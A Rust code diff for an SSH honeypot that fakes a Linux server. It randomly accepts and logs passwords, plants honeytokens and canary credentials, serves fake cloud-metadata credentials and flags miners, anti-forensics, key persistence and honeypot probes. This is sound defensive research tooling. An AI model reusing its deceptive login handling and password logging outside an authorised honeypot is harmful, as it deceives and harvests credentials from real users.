@@ -1,59 +1,106 @@
 use std::{
     borrow::Cow,
-    collections::HashMap,
+    collections::{HashMap, HashSet, VecDeque},
     future::Future,
     net::SocketAddr,
+    path::{Path, PathBuf},
     pin::Pin,
-    sync::Arc,
+    sync::{atomic::Ordering, Arc},
     task::{Context, Poll},
+    time::Duration,
 };
 
+use bytes::Bytes;
 use futures::{
     future::{BoxFuture, InspectErr},
     FutureExt, TryFutureExt,
 };
+use pisshoff_types::byte_str::ByteStr;
 use thrussh::{
     server::{Auth, Response, Session},
-    ChannelId, CryptoVec, Pty, Sig,
+    ChannelId, CryptoVec, MethodSet, Pty, Sig,
 };
 use thrussh_keys::key::PublicKey;
-use tokio::sync::{mpsc::UnboundedSender, Mutex};
-use tracing::{debug, error, info, info_span, instrument::Instrumented, Instrument, Span};
+use time::OffsetDateTime;
+use tokio::{
+    net::TcpListener,
+    sync::{mpsc::UnboundedSender, watch, Mutex},
+};
+use tracing::{debug, error, info, info_span, instrument::Instrumented, warn, Instrument, Span};
 
 use crate::{
+    anti_forensics,
     audit::{
-        AuditLog, AuditLogAction, LoginAttemptEvent, OpenDirectTcpIpEvent, OpenX11Event,
-        PtyRequestEvent, SignalEvent, SubsystemRequestEvent, TcpIpForwardEvent,
-        WindowAdjustedEvent, WindowChangeRequestEvent, X11RequestEvent,
+        AntiForensicsEvent, AntiForensicsTechnique, AuditLog, AuditLogAction, AuditSender,
+        AuthCheckEvent, AuthorizedKeyAddedEvent, CanaryCredentialUsedEvent, DetectionAttemptEvent,
+        DetectionProbe, ExecCommandEvent, HoneytokenAccess, HoneytokenAccessedEvent,
+        KeyboardInteractiveResponse, LoginAttemptEvent, MetadataAccessEvent, OpenDirectTcpIpEvent,
+        OpenX11Event, PreAuthDisconnectEvent, PtyRequestEvent, SessionLimit, SignalEvent,
+        SubsystemRequestEvent, SuspectedMinerEvent, TcpIpForwardEvent, TranscriptEvent,
+        WindowAdjustedEvent, WindowChangeRequestEvent, WriteFileEvent, X11RequestEvent,
+    },
+    authorized_keys,
+    clock::Clock,
+    config::{AuthRule, AuthRuleAction, Config, DirectTcpIpMode},
+    detection,
+    file_system::{home_directory, FileSystem, Quota},
+    handshake::{ClientHello, ServerAlgorithms, Sniffer},
+    honeytoken,
+    memory::MemoryBudget,
+    metadata,
+    miner::MinerDetector,
+    payload::{self, Payload, Sighting},
+    profile::Profile,
+    rate_limit::RateLimit,
+    state::{AttackerProfile, State},
+    subsystem::{
+        self,
+        shell::{split_command, Shell},
+        Subsystem,
     },
-    config::Config,
-    file_system::FileSystem,
-    state::State,
-    subsystem::{self, shell::Shell, Subsystem as SubsystemTrait},
+    tcp, template,
+    traffic::{Metered, Traffic},
 };
 
-pub static KEYBOARD_INTERACTIVE_PROMPT: &[(Cow<'static, str>, bool)] =
-    &[(Cow::Borrowed("Password: "), false)];
+/// The hostname presented to the client from within the shell, this is distinct from the actual
+/// host the server is running on which is only written to the audit log.
+pub const NODE_NAME: &str = "cd5079c0d642";
+
+/// Authentication methods offered to clients, by the names they go by in the protocol.
+pub const AUTH_METHODS: [(&str, MethodSet); 3] = [
+    ("password", MethodSet::PASSWORD),
+    ("publickey", MethodSet::PUBLICKEY),
+    ("keyboard-interactive", MethodSet::KEYBOARD_INTERACTIVE),
+];
+
+/// The most commands kept in the shell history shown by `history`, matching the `HISTSIZE` most
+/// distributions set in `.bashrc`.
+const MAX_HISTORY: usize = 1000;
 
 #[derive(Clone)]
 pub struct Server {
-    config: Arc<Config>,
+    /// The latest configuration, swapped out when the config file is reloaded.
+    config: watch::Receiver<Arc<Config>>,
     state: Arc<State>,
     hostname: &'static str,
-    audit_send: UnboundedSender<AuditLog>,
+    audit_send: AuditSender,
+    payload_send: Option<UnboundedSender<Payload>>,
 }
 
 impl Server {
     pub fn new(
         hostname: &'static str,
-        config: Arc<Config>,
-        audit_send: UnboundedSender<AuditLog>,
+        config: watch::Receiver<Arc<Config>>,
+        state: Arc<State>,
+        audit_send: AuditSender,
+        payload_send: Option<UnboundedSender<Payload>>,
     ) -> Self {
         Self {
             config,
+            state,
             hostname,
-            state: Arc::new(State::default()),
             audit_send,
+            payload_send,
         }
     }
 }
@@ -63,23 +110,140 @@ impl thrussh::server::Server for Server {
 
     fn new(&mut self, peer_addr: Option<SocketAddr>) -> Self::Handler {
         let connection_id = uuid::Uuid::new_v4();
+        let config = self.config.borrow().clone();
+        let rng = session_rng(&config, connection_id);
+        let memory = memory_budget(&config, &self.state);
 
-        Connection {
+        let mut connection = Connection {
             span: info_span!("connection", ?peer_addr, %connection_id),
             server: self.clone(),
             state: ConnectionState {
                 audit_log: AuditLog {
                     connection_id,
+                    ts: self.state.clock.now(),
                     host: Cow::Borrowed(self.hostname),
                     peer_address: peer_addr,
+                    location: peer_addr
+                        .and_then(|addr| self.state.geoip.lookup(addr.ip()))
+                        .cloned(),
                     ..AuditLog::default()
                 },
                 username: None,
                 file_system: None,
                 environment: HashMap::new(),
+                last_exit_status: 0,
+                shell_pid: None,
+                server_state: self.state.clone(),
+                attacker: peer_addr.map(|addr| self.state.attackers.connected(addr.ip())),
+                loop_iterations_remaining: config.max_script_loop_iterations,
+                config,
+                boot_time: session_boot_time(&self.state, &rng),
+                rng,
+                remote_forwards: HashSet::new(),
+                stopped_services: HashSet::new(),
+                installed_commands: HashSet::new(),
+                honeytokens: Vec::new(),
+                canary_alerted: false,
+                clock: self.state.clock.clone(),
+                history: VecDeque::new(),
+                miner: MinerDetector::default(),
+                script_depth: 0,
+                pty_channels: HashSet::new(),
+                active_channel: None,
+                channel_shells: HashMap::new(),
+                data_limit: RateLimit::default(),
+                command_limit: RateLimit::default(),
+                uploaded_bytes: 0,
+                payload_send: self.payload_send.clone(),
+                memory,
             },
             subsystem: HashMap::new(),
+            hello: Arc::default(),
+            traffic: Arc::default(),
+            methods_tried: Vec::new(),
+            authenticated: false,
+        };
+
+        if connection
+            .state
+            .attacker
+            .as_ref()
+            .is_some_and(|v| v.connections > 0)
+        {
+            connection.state.tag("returning_attacker", "1");
         }
+
+        connection
+    }
+}
+
+/// Seeds the random number generator for a connection, so anything made up for the client stays
+/// the same for the rest of the connection but differs from the next one.
+fn session_rng(config: &Config, connection_id: uuid::Uuid) -> fastrand::Rng {
+    fastrand::Rng::with_seed(config.seed.unwrap_or_else(|| connection_id.as_u64_pair().0))
+}
+
+/// Starts keeping count of the memory held by a new connection's buffers.
+fn memory_budget(config: &Config, state: &State) -> MemoryBudget {
+    MemoryBudget::new(
+        config.max_connection_memory,
+        state.connection_memory.clone(),
+        config.max_total_connection_memory,
+    )
+}
+
+/// Backdates the server's boot time by up to a day for a connection, so the uptime seen by
+/// returning clients isn't suspiciously in step with the last time they looked.
+fn session_boot_time(state: &State, rng: &fastrand::Rng) -> OffsetDateTime {
+    state.boot_time - time::Duration::seconds(rng.i64(0..86_400))
+}
+
+/// Accepts connections from `listener` and hands them off to thrussh, auditing what we can learn
+/// about the client's TCP stack before any SSH traffic is exchanged.
+pub async fn run(
+    config: Arc<thrussh::server::Config>,
+    listener: TcpListener,
+    server: Server,
+) -> std::io::Result<()> {
+    let state = server.state.clone();
+    state.listeners.fetch_add(1, Ordering::Relaxed);
+
+    let res = accept(config, listener, server).await;
+
+    state.listeners.fetch_sub(1, Ordering::Relaxed);
+    res
+}
+
+async fn accept(
+    config: Arc<thrussh::server::Config>,
+    listener: TcpListener,
+    mut server: Server,
+) -> std::io::Result<()> {
+    let algorithms = Arc::new(ServerAlgorithms::new(&config));
+
+    loop {
+        let (socket, peer_addr) = tcp::accept(&listener).await;
+
+        let mut connection = thrussh::server::Server::new(&mut server, Some(peer_addr));
+        connection
+            .state
+            .push_action(AuditLogAction::ConnectionMetadata(tcp::metadata(&socket)));
+
+        let (socket, hello) = Sniffer::new(socket, algorithms.clone());
+        connection.hello = hello;
+
+        let (socket, traffic) = Metered::new(
+            socket,
+            connection.state.config.max_connection_bytes_in,
+            connection.state.config.max_connection_bytes_out,
+        );
+        connection.traffic = traffic;
+
+        tokio::spawn(thrussh::server::run_stream(
+            config.clone(),
+            socket,
+            connection,
+        ));
     }
 }
 
@@ -88,18 +252,89 @@ pub struct ConnectionState {
     username: Option<String>,
     file_system: Option<FileSystem>,
     environment: HashMap<Cow<'static, [u8]>, Cow<'static, [u8]>>,
+    /// Exit status of the last command the shell ran, substituted in for `$?`.
+    last_exit_status: u32,
+    /// Process ID the shell claims to have, substituted in for `$$`.
+    shell_pid: Option<u32>,
+    server_state: Arc<State>,
+    /// What we knew about the client's address when it connected, from previous connections.
+    attacker: Option<AttackerProfile>,
+    config: Arc<Config>,
+    /// Source of anything made up for the connection, seeded by [`session_rng`].
+    rng: fastrand::Rng,
+    /// When the system claims to have booted, as seen by this connection.
+    boot_time: OffsetDateTime,
+    /// Addresses the client has asked to have forwarded back to it with `ssh -R`, none of which
+    /// are actually listened on.
+    remote_forwards: HashSet<(Box<str>, u32)>,
+    /// Services the client has stopped with `systemctl`, `service` or `ufw`, everything else is
+    /// running.
+    stopped_services: HashSet<Box<str>>,
+    /// Commands the client has installed with a package manager, each of which has a placeholder
+    /// binary in `/usr/bin`.
+    installed_commands: HashSet<Box<str>>,
+    /// Absolute paths of the honeytokens written to the file system.
+    honeytokens: Vec<PathBuf>,
+    /// Whether a canary credential alert has been raised, so a client logging in with one over
+    /// and over only raises a single alert.
+    canary_alerted: bool,
+    /// Where the connection gets the time from, frozen in tests.
+    clock: Clock,
+    /// Commands typed into the interactive shell, oldest first.
+    history: VecDeque<Box<str>>,
+    /// Cryptominer indicators seen in the commands and files sent by the client.
+    miner: MinerDetector,
+    /// Number of scripts currently running, nested within each other.
+    script_depth: usize,
+    /// Loop iterations the script currently running may still execute, shared with any scripts
+    /// it runs.
+    loop_iterations_remaining: usize,
+    /// Channels the client has requested a PTY on.
+    pty_channels: HashSet<ChannelId>,
+    /// The channel whose shell is using `environment` and the file system's working directory.
+    active_channel: Option<ChannelId>,
+    /// Environment and working directory of the shell on every other open channel, as each
+    /// channel would be a separate process on a real server.
+    channel_shells: HashMap<ChannelId, ChannelShell>,
+    /// Limits how quickly the client can send data, across all channels.
+    data_limit: RateLimit,
+    /// Limits how quickly the client can run commands.
+    command_limit: RateLimit,
+    /// Total number of bytes the client has uploaded over SCP and SFTP.
+    uploaded_bytes: u64,
+    /// Where written files are sent to be kept on disk, if the payload store is enabled.
+    payload_send: Option<UnboundedSender<Payload>>,
+    /// Memory held by buffers the client controls the size of.
+    memory: MemoryBudget,
 }
 
 impl ConnectionState {
-    #[cfg(test)]
+    /// A connection from `127.0.0.1` that's logged in as root, with the clock frozen at a fixed
+    /// time, for running commands against outside of a real server.
+    #[cfg(any(test, feature = "testing"))]
+    #[must_use]
     pub fn mock() -> Self {
+        Self::mock_with_config(Config::default())
+    }
+
+    /// As [`ConnectionState::mock`], with the server configured by `config`.
+    #[cfg(any(test, feature = "testing"))]
+    #[must_use]
+    pub fn mock_with_config(config: Config) -> Self {
         use std::net::{IpAddr, Ipv4Addr};
 
+        let connection_id =
+            uuid::Uuid::from_bytes([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]);
+        let config = Arc::new(config);
+        let server_state = Arc::new(State::default());
+        let rng = session_rng(&config, connection_id);
+        let memory = memory_budget(&config, &server_state);
+        let clock = Clock::fixed(time::macros::datetime!(2024-05-02 13:37:00 UTC));
+
         ConnectionState {
             audit_log: AuditLog {
-                connection_id: uuid::Uuid::from_bytes([
-                    1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16,
-                ]),
+                connection_id,
+                ts: clock.now(),
                 host: Cow::Borrowed("hello world"),
                 peer_address: Some(SocketAddr::new(
                     IpAddr::V4(Ipv4Addr::new(127, 0, 0, 1)),
@@ -110,8 +345,49 @@ impl ConnectionState {
             username: None,
             file_system: None,
             environment: HashMap::new(),
+            last_exit_status: 0,
+            shell_pid: None,
+            boot_time: session_boot_time(&server_state, &rng),
+            server_state,
+            attacker: None,
+            loop_iterations_remaining: config.max_script_loop_iterations,
+            config,
+            rng,
+            remote_forwards: HashSet::new(),
+            stopped_services: HashSet::new(),
+            installed_commands: HashSet::new(),
+            honeytokens: Vec::new(),
+            canary_alerted: false,
+            clock,
+            history: VecDeque::new(),
+            miner: MinerDetector::default(),
+            script_depth: 0,
+            pty_channels: HashSet::new(),
+            active_channel: None,
+            channel_shells: HashMap::new(),
+            data_limit: RateLimit::default(),
+            command_limit: RateLimit::default(),
+            uploaded_bytes: 0,
+            payload_send: None,
+            memory,
         }
     }
+
+    #[cfg(test)]
+    pub fn set_pty(&mut self, channel: ChannelId) {
+        self.pty_channels.insert(channel);
+    }
+
+    #[cfg(test)]
+    pub fn set_config(&mut self, config: Config) {
+        self.memory = memory_budget(&config, &self.server_state);
+        self.config = Arc::new(config);
+    }
+
+    #[cfg(test)]
+    pub fn set_payload_send(&mut self, payload_send: UnboundedSender<Payload>) {
+        self.payload_send = Some(payload_send);
+    }
 }
 
 impl ConnectionState {
@@ -119,64 +395,911 @@ impl ConnectionState {
         self.username.as_deref().unwrap_or("root")
     }
 
+    /// Switches the user commands are executed as, ie. when running a command with `sudo`.
+    pub fn set_username(&mut self, username: &str) {
+        self.username = Some(username.to_string());
+    }
+
+    /// Logs in as another user for the rest of the session, as with `su`, moving the home
+    /// directory over and changing into it if `login` is set.
+    pub fn switch_user(&mut self, username: &str, login: bool) {
+        self.username = Some(username.to_string());
+
+        if let Some(file_system) = &mut self.file_system {
+            file_system.switch_user(username, login);
+        }
+
+        let home = home_directory(username);
+        self.environment.insert(
+            Cow::Borrowed(b"USER"),
+            Cow::Owned(username.as_bytes().to_vec()),
+        );
+        self.environment.insert(
+            Cow::Borrowed(b"HOME"),
+            Cow::Owned(home.to_string_lossy().into_owned().into_bytes()),
+        );
+    }
+
+    /// Decides whether `password` is accepted for `user`, passwords are accepted randomly and
+    /// then forever after so returning clients aren't turned away.
+    pub fn check_password(&self, user: &str, password: &str) -> bool {
+        let passwords = &self.server_state.previously_accepted_passwords;
+
+        if passwords.seen(user, password) {
+            info!(
+                user,
+                password, "Accepted password due to it being used before"
+            );
+            true
+        } else if self.rng.f64() <= self.config.access_probability {
+            info!(user, password, "Accepted password randomly");
+            passwords.store(user, password);
+            true
+        } else {
+            info!(?user, ?password, "Rejected password");
+            false
+        }
+    }
+
+    /// Decides whether the client can log in as `user` with `password`. Unless the password has
+    /// been accepted before, the client must have failed to log in as `user` from its address
+    /// `min-failed-logins` times before [`Self::check_password`] gets a say.
+    pub fn check_login(&self, user: &str, password: &str) -> bool {
+        let attackers = &self.server_state.attackers;
+        let address = self.audit_log.peer_address.map(|v| v.ip());
+        let failed = address.map_or(0, |v| attackers.failed_logins(v, user));
+
+        let res = if failed < self.config.min_failed_logins
+            && !self
+                .server_state
+                .previously_accepted_passwords
+                .seen(user, password)
+        {
+            info!(
+                ?user,
+                ?password,
+                failed,
+                "Rejected password due to too few failed logins"
+            );
+            false
+        } else {
+            self.check_password(user, password)
+        };
+
+        if let (false, Some(address)) = (res, address) {
+            attackers.login_failed(address, user);
+        }
+
+        res
+    }
+
+    /// Whether the client requested a PTY for `channel`, and so is able to type in a password.
+    pub fn has_pty(&self, channel: ChannelId) -> bool {
+        self.pty_channels.contains(&channel)
+    }
+
+    /// The connection's file system, populated for the system profile the first time it's used.
+    #[allow(clippy::missing_panics_doc)] // only unwraps the file system it's just built
     pub fn file_system(&mut self) -> &mut FileSystem {
         if self.file_system.is_none() {
-            self.file_system = Some(FileSystem::new(self.username()));
+            let profile = self.profile();
+            let mut fs = FileSystem::with_quota(
+                self.username(),
+                Quota {
+                    bytes: self.config.max_file_system_size,
+                    inodes: self.config.max_file_system_inodes,
+                },
+                Some((
+                    self.server_state.file_system_usage.clone(),
+                    Quota {
+                        bytes: self.config.max_total_file_system_size,
+                        inodes: self.config.max_total_file_system_inodes,
+                    },
+                )),
+            );
+            profile.populate(&mut fs, &self.node_name());
+
+            let connection_id = self.audit_log.connection_id;
+            let token = honeytoken::token(connection_id);
+
+            for honeytoken in &self.config.honeytokens {
+                let path = home_directory(self.username()).join(&honeytoken.path);
+
+                if let Some(parent) = path.parent() {
+                    let _res = fs.mkdirall(parent);
+                }
+
+                let content = honeytoken::render(&honeytoken.content, &token, connection_id);
+                if fs
+                    .write(&path, content.into_bytes().into_boxed_slice())
+                    .is_ok()
+                {
+                    self.honeytokens.push(path);
+                }
+            }
+
+            self.file_system = Some(fs);
+
+            for package in profile.packages {
+                self.install_command(package);
+            }
         }
 
         self.file_system.as_mut().unwrap()
     }
 
+    /// Raises an alert if `path` is one of the honeytokens, called whenever a file is read,
+    /// written or stat'd on behalf of the client.
+    pub fn touch_file(&mut self, path: &Path, access: HoneytokenAccess) {
+        let path = self.file_system().canonicalise(path);
+
+        if !self.honeytokens.contains(&path) {
+            return;
+        }
+
+        let token = honeytoken::token(self.audit_log.connection_id);
+        let path = path.to_string_lossy().into_owned();
+
+        warn!(path, ?access, "Client touched a honeytoken");
+
+        if let Some(url) = &self.config.honeytoken_webhook {
+            tokio::spawn(honeytoken::send_webhook(
+                url.clone(),
+                serde_json::json!({
+                    "connection-id": self.audit_log.connection_id,
+                    "peer-address": self.audit_log.peer_address,
+                    "host": self.audit_log.host,
+                    "path": path,
+                    "access": access,
+                    "token": token,
+                }),
+            ));
+        }
+
+        self.tag("honeytoken", "1");
+        self.push_action(AuditLogAction::HoneytokenAccessed(
+            HoneytokenAccessedEvent {
+                path: path.into_boxed_str(),
+                access,
+                token: token.into_boxed_str(),
+            },
+        ));
+    }
+
+    /// Whether `user` and `password` are one of the canary credentials, in which case the login
+    /// should always succeed. An alert is raised the first time one is used on the connection.
+    pub fn check_canary(&mut self, method: &'static str, user: &str, password: &str) -> bool {
+        let config = self.config.clone();
+        let Some(canary) = config
+            .canary_credentials
+            .iter()
+            .find(|v| v.username == user && v.password == password)
+        else {
+            return false;
+        };
+
+        if std::mem::replace(&mut self.canary_alerted, true) {
+            return true;
+        }
+
+        warn!(
+            user,
+            label = canary.label,
+            "Client logged in with a canary credential"
+        );
+
+        if let Some(url) = &config.honeytoken_webhook {
+            tokio::spawn(honeytoken::send_webhook(
+                url.clone(),
+                serde_json::json!({
+                    "connection-id": self.audit_log.connection_id,
+                    "peer-address": self.audit_log.peer_address,
+                    "host": self.audit_log.host,
+                    "method": method,
+                    "username": user,
+                    "label": canary.label,
+                }),
+            ));
+        }
+
+        self.tag("canary", "1");
+        self.push_action(AuditLogAction::CanaryCredentialUsed(
+            CanaryCredentialUsedEvent {
+                method: Cow::Borrowed(method),
+                username: Box::from(user),
+                label: canary.label.as_deref().map(Box::from),
+            },
+        ));
+
+        true
+    }
+
+    /// The first of the auth rules matching where the client connected from.
+    pub fn auth_rule(&self) -> Option<&AuthRule> {
+        let location = self.audit_log.location.as_ref()?;
+        self.config
+            .auth_rules
+            .iter()
+            .find(|rule| rule.matches(location))
+    }
+
+    /// The current time, as far as the connection is concerned.
+    pub fn now(&self) -> OffsetDateTime {
+        self.clock.now()
+    }
+
+    #[cfg(test)]
+    pub fn clock(&self) -> &Clock {
+        &self.clock
+    }
+
+    /// Records `action` in the audit log, timed by the connection's clock.
+    pub fn push_action(&mut self, action: AuditLogAction) {
+        let start_offset = self.clock.elapsed(&self.audit_log);
+        self.audit_log.push_action_at(action, start_offset);
+
+        if self.server_state.live_events.is_watched() {
+            if let Some(event) = self.audit_log.events.last() {
+                self.server_state
+                    .live_events
+                    .publish(&self.audit_log, event, &self.config);
+            }
+        }
+    }
+
     pub fn audit_log(&mut self) -> &mut AuditLog {
         &mut self.audit_log
     }
 
+    /// Attaches a tag to the connection's audit log so it can be queried on by sinks, this is
+    /// intended for heuristics within commands to flag interesting behaviour.
+    pub fn tag(&mut self, key: impl Into<Cow<'static, str>>, value: impl Into<Cow<'static, str>>) {
+        self.audit_log.tag(key, value);
+    }
+
+    /// Pretends to start listening on `address:port` on behalf of the client, returning false if
+    /// the request should be refused.
+    pub fn add_remote_forward(&mut self, address: &str, port: u32) -> bool {
+        // a port of 0 asks us to pick one and send it back, which thrussh has no way of doing
+        if port == 0 {
+            return false;
+        }
+
+        self.remote_forwards.insert((Box::from(address), port));
+        self.tag("reverse_tunnel", "1");
+        true
+    }
+
+    /// Stops pretending to listen on `address:port`, returning false if it was never forwarded.
+    pub fn remove_remote_forward(&mut self, address: &str, port: u32) -> bool {
+        self.remote_forwards.remove(&(Box::from(address), port))
+    }
+
+    pub fn is_service_running(&self, name: &str) -> bool {
+        !self.stopped_services.contains(name)
+    }
+
+    pub fn set_service_running(&mut self, name: &str, running: bool) {
+        if running {
+            self.stopped_services.remove(name);
+        } else {
+            self.stopped_services.insert(Box::from(name));
+        }
+    }
+
+    /// Makes `name` resolvable as a command, placing a binary for it in `/usr/bin`.
+    pub fn install_command(&mut self, name: &str) {
+        let path = Path::new("/usr/bin").join(name);
+        let fs = self.file_system();
+        let _res = fs.mkdirall(Path::new("/usr/bin"));
+
+        if fs.write(&path, Box::from(*b"\x7fELF\x02\x01\x01")).is_ok() {
+            if let Ok(metadata) = fs.metadata_mut(&path) {
+                metadata.mode = 0o755;
+            }
+        }
+
+        self.installed_commands.insert(Box::from(name));
+    }
+
+    pub fn is_installed(&self, name: &str) -> bool {
+        self.installed_commands.contains(name) || self.profile().packages.contains(&name)
+    }
+
+    /// Returns how long to wait before handling `len` bytes sent by the client, to keep it within
+    /// `max-data-rate`.
+    pub fn throttle_data(&mut self, len: usize) -> Duration {
+        self.data_limit.take(self.config.max_data_rate, len as u64)
+    }
+
+    /// The first of the per-connection caps the client has gone over, if any.
+    pub fn exceeded_limit(&self) -> Option<SessionLimit> {
+        let summary = &self.audit_log.summary;
+
+        [
+            (
+                SessionLimit::BytesIn,
+                summary.bytes_in,
+                self.config.max_connection_bytes_in,
+            ),
+            (
+                SessionLimit::BytesOut,
+                summary.bytes_out,
+                self.config.max_connection_bytes_out,
+            ),
+            (
+                SessionLimit::Channels,
+                summary.channels,
+                self.config.max_connection_channels,
+            ),
+            (
+                SessionLimit::AuthAttempts,
+                summary.auth_attempts,
+                self.config.max_connection_auth_attempts,
+            ),
+            (
+                SessionLimit::Commands,
+                summary.commands,
+                self.config.max_connection_commands,
+            ),
+        ]
+        .into_iter()
+        .find(|(_, count, max)| count > max)
+        .map(|(limit, ..)| limit)
+    }
+
+    /// Returns how long to wait before running a command, to keep the client within
+    /// `max-command-rate`.
+    pub fn throttle_command(&mut self) -> Duration {
+        self.command_limit.take(self.config.max_command_rate, 1)
+    }
+
+    pub fn memory(&self) -> &MemoryBudget {
+        &self.memory
+    }
+
+    pub fn script_depth(&self) -> usize {
+        self.script_depth
+    }
+
+    pub fn enter_script(&mut self) {
+        self.script_depth += 1;
+    }
+
+    pub fn leave_script(&mut self) {
+        self.script_depth = self.script_depth.saturating_sub(1);
+    }
+
+    /// Gives a script started from the shell its full allowance of loop iterations.
+    pub fn reset_loop_iterations(&mut self) {
+        self.loop_iterations_remaining = self.config.max_script_loop_iterations;
+    }
+
+    /// Uses up one of the running script's loop iterations, returning false if it has none left.
+    pub fn take_loop_iteration(&mut self) -> bool {
+        if let Some(remaining) = self.loop_iterations_remaining.checked_sub(1) {
+            self.loop_iterations_remaining = remaining;
+            true
+        } else {
+            false
+        }
+    }
+
+    /// Accounts for `bytes` more being uploaded to a file that will then be `file_size` bytes long,
+    /// returning false if either the per-file or per-connection upload limit would be exceeded.
+    pub fn reserve_upload(&mut self, file_size: u64, bytes: u64) -> bool {
+        let uploaded_bytes = self.uploaded_bytes.saturating_add(bytes);
+
+        if file_size > self.config.max_file_upload
+            || uploaded_bytes > self.config.max_connection_upload
+        {
+            return false;
+        }
+
+        self.uploaded_bytes = uploaded_bytes;
+        true
+    }
+
+    /// Truncates uploaded content to the amount that should be kept in the audit log, returning
+    /// the SHA-256 of the full content if anything was cut off.
+    pub fn truncate_upload(&self, mut content: Bytes) -> (Bytes, Option<Box<str>>) {
+        if content.len() <= self.config.max_audited_content {
+            return (content, None);
+        }
+
+        let sha256 = payload::sha256(&content);
+        content.truncate(self.config.max_audited_content);
+        (content, Some(sha256))
+    }
+
+    /// Audits a file being written by the client, flagging any SSH keys being added for
+    /// persistence if the file is an `authorized_keys` file.
+    pub fn record_file_write(&mut self, path: &str, content: Bytes) {
+        self.touch_file(Path::new(path), HoneytokenAccess::Write);
+
+        let canonical = self.file_system().canonicalise(Path::new(path));
+
+        if let Some(technique) = anti_forensics::file_technique(&canonical) {
+            self.record_anti_forensics(technique, Box::from([path.to_string()]));
+        }
+
+        if let Some(event) = self.miner.file(path, &content) {
+            self.record_suspected_miner(event);
+        }
+
+        let keys = if authorized_keys::is_authorized_keys_file(&canonical) {
+            authorized_keys::parse(&String::from_utf8_lossy(&content))
+                .into_iter()
+                .map(|key| AuthorizedKeyAddedEvent {
+                    path: Box::from(path),
+                    key_type: Box::from(key.key_type),
+                    key: Box::from(key.key),
+                    fingerprint: thrussh_keys::parse_public_key_base64(key.key)
+                        .ok()
+                        .map(|v| Box::from(v.fingerprint())),
+                    comment: key.comment.map(Box::from),
+                })
+                .collect()
+        } else {
+            Vec::new()
+        };
+
+        let size = content.len() as u64;
+        let sha256 = payload::sha256(&content);
+
+        let content = if let Some(payload_send) = &self.payload_send {
+            let _res = payload_send.send(Payload {
+                sha256: sha256.clone(),
+                content,
+                sighting: Sighting {
+                    ts: self.now(),
+                    connection_id: self.audit_log.connection_id,
+                    peer_address: self.audit_log.peer_address,
+                    path: Box::from(path),
+                    size,
+                },
+            });
+
+            Bytes::new()
+        } else {
+            content.slice(..content.len().min(self.config.max_audited_content))
+        };
+
+        self.push_action(AuditLogAction::WriteFile(WriteFileEvent {
+            path: Box::from(path),
+            content,
+            size,
+            sha256: Some(sha256),
+        }));
+
+        if !keys.is_empty() {
+            self.tag("ssh_key_persistence", "1");
+        }
+
+        for key in keys {
+            self.push_action(AuditLogAction::AuthorizedKeyAdded(key));
+        }
+    }
+
+    /// State shared between all connections to the server.
+    pub fn server_state(&self) -> &State {
+        &self.server_state
+    }
+
+    /// Random number generator for anything made up for the client that should stay the same for
+    /// the rest of the connection, such as process IDs.
+    pub fn rng(&self) -> &fastrand::Rng {
+        &self.rng
+    }
+
+    /// Fills in the placeholders in text from the config file with the details of this connection.
+    pub fn render_template(&self, template: &str) -> String {
+        template::render(
+            template,
+            &template::Context {
+                hostname: &self.node_name(),
+                username: self.username(),
+                ip: self.audit_log.peer_address.map(|v| v.ip()),
+                now: self.now(),
+                rng: &self.rng,
+            },
+        )
+    }
+
+    /// When the system claims to have booted.
+    pub fn boot_time(&self) -> OffsetDateTime {
+        self.boot_time
+    }
+
+    /// What was known about the client's address before it connected, if it has one.
+    pub fn attacker(&self) -> Option<&AttackerProfile> {
+        self.attacker.as_ref()
+    }
+
+    /// The hostname presented to the client, either the one given by the system profile or one
+    /// consistent across every connection from the same address.
+    pub fn node_name(&self) -> Cow<'static, str> {
+        if let Some(hostname) = self.profile().hostname {
+            return Cow::Borrowed(hostname);
+        }
+
+        self.attacker
+            .as_ref()
+            .map_or(Cow::Borrowed(NODE_NAME), |v| Cow::Owned(v.node_name()))
+    }
+
+    /// The machine the server is describing itself as.
+    pub fn profile(&self) -> &'static Profile {
+        self.config.profile.profile()
+    }
+
+    /// Adds an executed command to the profile of the client's address.
+    pub fn record_command(&mut self, command: &str) {
+        self.audit_log.summary.commands += 1;
+
+        if let Some(addr) = self.audit_log.peer_address {
+            self.server_state.attackers.command(addr.ip(), command);
+        }
+
+        if self.history.len() >= MAX_HISTORY {
+            self.history.pop_front();
+        }
+
+        self.history.push_back(Box::from(command));
+
+        if let Some(event) = self.miner.command(command) {
+            self.record_suspected_miner(event);
+        }
+
+        if let Some(probe) = detection::probe(command) {
+            self.record_detection_attempt(probe, command);
+        }
+    }
+
+    /// Flags the client trying to work out whether it's talking to a honeypot.
+    pub fn record_detection_attempt(&mut self, probe: DetectionProbe, command: &str) {
+        info!(?probe, command, "Client probed for a honeypot");
+
+        self.tag("detection_attempt", "1");
+        self.push_action(AuditLogAction::DetectionAttempt(DetectionAttemptEvent {
+            probe,
+            command: Box::from(command),
+        }));
+    }
+
+    /// Answers a request made by `command` to the cloud metadata service, flagging the client as
+    /// being after the instance's credentials.
+    pub fn request_metadata(
+        &mut self,
+        command: &'static str,
+        url: &str,
+        path: &str,
+    ) -> metadata::Response {
+        let response = metadata::respond(
+            path,
+            &self.config.cloud_metadata,
+            self.audit_log.connection_id,
+            self.now(),
+        );
+
+        warn!(
+            url,
+            credentials = response.credentials,
+            "Client requested cloud metadata"
+        );
+
+        self.tag("metadata_access", "1");
+        self.push_action(AuditLogAction::MetadataAccess(MetadataAccessEvent {
+            command: Cow::Borrowed(command),
+            url: Box::from(url),
+            credentials: response.credentials,
+        }));
+
+        response
+    }
+
+    fn record_suspected_miner(&mut self, event: SuspectedMinerEvent) {
+        info!(confidence = ?event.confidence, indicators = ?event.indicators, "Client looks to be setting up a miner");
+
+        self.tag("miner", "1");
+        self.push_action(AuditLogAction::SuspectedMiner(event));
+    }
+
+    /// Commands typed into the interactive shell, oldest first.
+    pub fn history(&self) -> &VecDeque<Box<str>> {
+        &self.history
+    }
+
+    pub fn clear_history(&mut self) {
+        self.history.clear();
+    }
+
+    /// Flags an attempt by the client to cover its tracks.
+    pub fn record_anti_forensics(
+        &mut self,
+        technique: AntiForensicsTechnique,
+        targets: Box<[String]>,
+    ) {
+        info!(?technique, ?targets, "Client attempted to cover its tracks");
+
+        self.tag("anti_forensics", "1");
+        self.push_action(AuditLogAction::AntiForensics(AntiForensicsEvent {
+            technique,
+            targets,
+        }));
+    }
+
+    /// Configuration the server was started with.
